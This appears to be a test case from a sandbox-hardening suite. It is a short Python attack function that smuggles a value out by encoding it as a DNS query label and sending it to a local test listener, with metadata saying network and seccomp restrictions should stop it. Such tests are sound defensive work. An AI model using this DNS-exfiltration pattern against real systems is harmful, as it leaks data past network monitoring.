"""Tells something by asking a name server for a name."""

ATTACK = {
    "family": "network",
    "stopped_by": ["net", "seccomp"],
    "lift": ["net", "landlock", "seccomp"],
    "expect": ["exception"],
    "proof": "heard",
}

import os
import socket
import struct


def attack(host):
    labels = b"".join(bytes([len(part)]) + part for part in (host["name"].encode(), b"example", b"org")) + b"\0"
    question = struct.pack(">HHHHHH", 4711, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", host["udp_port"]))
    socket.getaddrinfo("localhost", 80)
